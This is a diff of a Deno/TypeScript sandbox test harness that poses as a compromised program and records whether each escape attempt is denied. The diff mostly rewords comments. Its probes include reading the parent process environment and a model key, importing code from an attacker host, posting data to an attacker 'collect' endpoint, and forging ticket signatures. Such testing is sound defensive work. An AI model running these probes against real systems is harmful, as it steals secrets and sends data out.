@@ -1,7 +1,7 @@
 /**
- * Runs in place of the desk's entry point, with the desk's own flags and environment, as a program would that has taken
- * the desk over: it has every record and ticket that the desk ever held, and tries to use them. Prints what became of
- * each try as one line of JSON: `denied`, a refusal's code, what it got, or that no answer came in time.
+ * Runs in place of the desk's entry point, with the desk's own flags and environment, like a program that has taken
+ * over the desk: it has every record and ticket that the desk ever had, and tries to use them. Prints the outcome of
+ * each attempt as a line of JSON: `denied`, a refusal's code, what it obtained, or that no answer arrived in time.
  */
 
 import fs from "node:fs";
@@ -16,18 +16,20 @@ import { NO_ANSWER } from "./outcomes.ts";
 
 const places = z.strictObject({
   data: z.string(),
-  /** The app that the desk was made for, and a host that belongs to the attacker. */
+  /** The app that the desk was configured for, and a host of the attacker. */
   app: z.string(),
   evil: z.string(),
   /** The operator's model. */
   model: z.string(),
-  /** Records: the live one, the one that it replaced, a removed one, one of another workspace, the identity secret. */
+  /**
+   * Records: the current one, the one that it replaced, a removed one, one of another workspace, the identity secret.
+   */
   live: sealedSchema,
   replaced: sealedSchema,
   removed: sealedSchema,
   foreign: sealedSchema,
   identity: z.strictObject({ name: z.string(), sealed: sealedSchema }),
-  /** Tickets: of a customer who is signed in, of one of another workspace, and one that has ended. */
+  /** Tickets: of a signed-in customer, of one in another workspace, and an expired one. */
   ticket: z.string(),
   foreignTicket: z.string(),
   endedTicket: z.string(),
@@ -45,7 +47,7 @@ const freezeFile = `${at.data}/freeze.json`;
 
 type Probe = () => unknown;
 
-/** A request as the desk makes it; `change` holds what the attacker wants. */
+/** A request as the desk makes it; `change` is the attacker's modification. */
 function request(url: string, change: Partial<OutboundRequest> = {}): OutboundRequest {
   const base = { door: "action", workspace: "w1", method: "GET", headers: {}, body: null, marker: MARKER } as const;
   return { ...base, url, secrets: {}, customer: null, call: null, deadlineMs: 5000, ...change };
@@ -160,7 +162,7 @@ const KEYS: Readonly<Record<string, Probe>> = {
   "key: write the vault file": () => Deno.writeTextFileSync(`${at.data}/keys/vault.json`, "{}"),
   "key: the model's key from the environment": () => Deno.env.get("SVC_MODEL_KEY"),
   "key: the sandbox's environment": () => Deno.readTextFileSync(`/proc/${Deno.ppid}/environ`),
-  // Last of its group: what the app returns is masked, in whichever form.
+  // Last of its group: the app's response is masked, in whichever encoding.
   "open: use the live key where it belongs": () => withKey(`${at.app}/echo`),
 };
 
@@ -195,7 +197,7 @@ const customers: Readonly<Record<string, OutboundCustomer | null>> = {
   ),
   "with a ticket of another workspace": ticketOf(at.foreignTicket),
   "with a ticket that has ended": ticketOf(at.endedTicket),
-  // Not its last letter: two of that one's six bits are no part of the signature.
+  // Not the last letter, of whose six bits two are not part of the signature.
   "with a ticket whose signature begins with another letter": ticketOf(
     at.ticket.replace(/\.([\w-])([\w-]+)$/, (_, first, rest) => `.${first === "A" ? "B" : "A"}${rest}`),
   ),
@@ -253,7 +255,7 @@ const DOORS: Readonly<Record<string, Probe>> = {
 
 const code = (path: string) => new URL(`../../${path}`, import.meta.url);
 
-/** What came with the extractor that sleeps, with trackers, and with the tasks and pages of AI clients. */
+/** Attempts through the sleeping extractor, trackers, and the tasks and pages of AI clients. */
 const PARTS: Readonly<Record<string, Probe>> = {
   "extractor: start it by itself": () =>
     new Deno.Command(Deno.execPath(), { args: ["run", "-A", code("extractor/main.ts").pathname] }).outputSync(),
@@ -335,7 +337,7 @@ const FILES: Readonly<Record<string, Probe>> = {
   "socket: code of another host": () => import(`${at.evil}/${"code"}.ts`),
 };
 
-/** What sends data out; unfrozen, what the operator's rules let the desk reach is open. */
+/** Attempts to send data out; unfrozen, those within the operator's rules succeed. */
 const DATA_OUT: Readonly<Record<string, Probe>> = {
   "open: data to another host by the action door": () =>
     call(`${at.evil}/collect`, { method: "POST", body: "the database" }),
@@ -345,7 +347,7 @@ const DATA_OUT: Readonly<Record<string, Probe>> = {
   "open: a model's question": () => call(`${at.model}/chat/completions`, { door: "model", method: "POST", body: "{}" }),
 };
 
-/** Changes of keys and of the identity secret: the last, because what came before needs the old ones. */
+/** Changes of keys and of the identity secret: last, because earlier attempts need the old ones. */
 const CHANGES: Readonly<Record<string, Probe>> = {
   "open: set a key of its own": () =>
     sandbox.setSecret({ workspace: "w1", name: "MINE" }, { value: "0123456789", origins: [at.evil] }),
@@ -371,7 +373,7 @@ async function outcomeOf(probe: Probe): Promise<string> {
     const answer = outcomeSchema.safeParse(got).data;
     if (got === "timeout" || answer?.message === SILENT_SANDBOX) return NO_ANSWER;
     if (answer === undefined) return `got ${JSON.stringify(got) ?? "it"}`;
-    // The whole answer is printed, so that the test can look for keys in it.
+    // The whole answer is printed, so that the test can search it for keys.
     return answer.kind === "refused" || answer.kind === "rejected"
       ? `refused ${answer.code}`
       : `got ${JSON.stringify(answer)}`;
